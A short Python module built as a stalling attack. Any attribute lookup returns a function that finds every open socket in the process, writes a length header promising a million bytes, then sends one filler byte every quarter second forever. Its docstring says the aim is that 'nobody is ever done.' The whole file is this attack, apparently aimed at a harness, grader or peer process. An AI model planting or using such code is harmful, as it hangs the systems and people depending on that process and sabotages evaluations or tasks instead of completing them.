"""Sends one byte of its answer a second, so that nobody is ever done."""

import os
import stat
import struct


def sockets():
    found = []
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def framed(data):
    return struct.pack(">I", len(data)) + data


import time


def attack(*arguments, **keywords):
    write(struct.pack(">I", 10**6))
    while True:
        write(b"\x90")
        time.sleep(0.25)


def __getattr__(name):
    return attack
